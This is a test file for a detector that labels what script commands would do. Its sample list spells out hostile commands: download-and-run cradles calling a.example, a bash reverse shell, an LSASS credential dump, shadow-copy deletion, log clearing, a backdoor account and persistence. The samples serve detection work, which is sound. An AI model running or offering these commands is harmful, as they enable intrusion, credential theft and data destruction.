"""What scripts would do, told by their own words."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from casemate.stages.extract.acts import ACTS, find_acts, statement_around

SHOWN = [
    ("IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')", {"run-text", "download"}),
    ("certutil -urlcache -split -f http://a.example/a.exe %TEMP%\\a.exe", {"download", "abused-program"}),
    ("schtasks /create /tn up /tr c:\\a.exe /sc onlogon", {"schedule"}),
    ("sc create up binPath= c:\\a.exe start= auto", {"install-service"}),
    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b", {"persist", "registry"}),
    ("powershell -w hidden -nop -ep bypass -c whoami", {"hide-window", "discover"}),
    ("rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 lsass.dmp full", {"abused-program", "credentials"}),
    ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", {"connect"}),
    ("vssadmin delete shadows /all /quiet", {"destroy"}),
    ("curl -s http://a.example/x.sh | sh", {"download", "run-text"}),
    ("echo aGk= | base64 -d", {"decode"}),
    ("wevtutil cl Security", {"disable-defence"}),
    ("net user eve Passw0rd! /add", {"account", "discover"}),
    ("chmod +x /tmp/a && nohup /tmp/a &", {"permit", "start"}),
]


@pytest.mark.parametrize(("text", "kinds"), SHOWN)
def test_acts_are_told(text: str, kinds: set[str]):
    assert kinds <= {act.kind for act in find_acts(text, 50)}


@pytest.mark.parametrize(
    "text",
    ["The meeting was moved to Tuesday.", "def total(values):\n    return sum(values)\n", "Get-Date", "ls -la", ""],
)
def test_harmless_text_tells_nothing(text: str):
    assert not list(find_acts(text, 50))


@given(st.text(max_size=200), st.sampled_from([text for text, _ in SHOWN]), st.text(max_size=200))
@settings(max_examples=100, deadline=None)
def test_statements_hold_what_they_tell_and_come_in_order(before: str, text: str, after: str):
    whole = f"{before}\n{text}\n{after}"
    acts = list(find_acts(whole, 50))
    assert acts
    assert [act.start for act in acts] == sorted(act.start for act in acts)
    for act in acts:
        assert act.kind in ACTS
        start, end = statement_around(whole, act.start, act.end)
        assert 0 <= start <= act.start < act.end <= end <= len(whole)


@pytest.mark.parametrize("piece", ["iex ", "A" * 40 + " -enc ", "/dev/tcp/", "net user ", "\\\\a\\c$", "-w "])
def test_long_texts_are_done_with(piece: str):
    acts = list(find_acts(piece * 20_000, 40))
    assert len(acts) <= 40
